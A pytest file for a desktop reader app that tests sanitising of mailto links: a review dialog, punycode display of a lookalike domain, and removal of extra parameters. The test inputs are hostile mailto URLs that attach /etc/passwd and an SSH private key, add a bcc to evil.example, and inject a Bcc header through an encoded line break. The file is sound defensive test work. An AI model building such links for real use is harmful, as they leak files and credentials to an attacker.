"""A mailto link leaves the program only after a look at it, and only with address, subject and body."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtGui import QDesktopServices
from PySide6.QtWidgets import QPlainTextEdit
from pytestqt.qtbot import QtBot

from deskreader.app import open_in_browser
from deskreader.desktop.commands.mail_review import MailReviewDialog
from tests.desktop.conftest import Shown
from tests.desktop.fake_engine import FakeEngine

pytestmark = pytest.mark.qt_log_ignore("propagateSizeHints")

LINK = "mailto:ann@pаper.example?subject=Hello&attach=/etc/passwd&bcc=x@evil.example&body=one%0D%0Atwo"
SAFE = "mailto:ann@p%D0%B0per.example?subject=Hello&body=one%0D%0Atwo"


def test_a_letter_is_shown_before_it_goes_to_the_mail_program(
    show: Callable[[FakeEngine], Shown], engine: FakeEngine
) -> None:
    shown = show(engine)
    shown.window.workbench.article_controller.open_link(LINK)
    (dialog,) = shown.window.findChildren(MailReviewDialog)
    assert not shown.opened
    assert "ann@xn--pper-53d.example" in dialog.recipients.text()
    assert [field.toPlainText() for field in dialog.findChildren(QPlainTextEdit)] == ["one\ntwo"]
    dialog.hand_over.click()
    assert shown.opened == [SAFE]


def test_a_link_without_an_address_opens_nothing(show: Callable[[FakeEngine], Shown], engine: FakeEngine) -> None:
    shown = show(engine)
    shown.window.workbench.article_controller.open_link("mailto:?attach=/etc/passwd")
    assert not shown.window.findChildren(MailReviewDialog)
    assert not shown.opened
    assert shown.window.undo_bar.text == "This link has no email address."


def test_a_web_link_opens_at_once(show: Callable[[FakeEngine], Shown], engine: FakeEngine, qtbot: QtBot) -> None:
    shown = show(engine)
    shown.window.workbench.article_controller.open_link("https://a.example/x")
    qtbot.waitUntil(lambda: shown.opened == ["https://a.example/x"])


def test_the_system_gets_nothing_but_address_subject_and_body(monkeypatch: pytest.MonkeyPatch) -> None:
    opened: list[str] = []
    monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: opened.append(QUrl(url).toString()))
    open_in_browser("mailto:a@b.example?subject=hi&attach=/home/u/.ssh/id_rsa&bcc=x@evil.example&body=x%0D%0ABcc:y")
    open_in_browser("mailto:?attach=/etc/passwd")
    assert opened == ["mailto:a@b.example?subject=hi&body=x%0D%0ABcc%3Ay"]
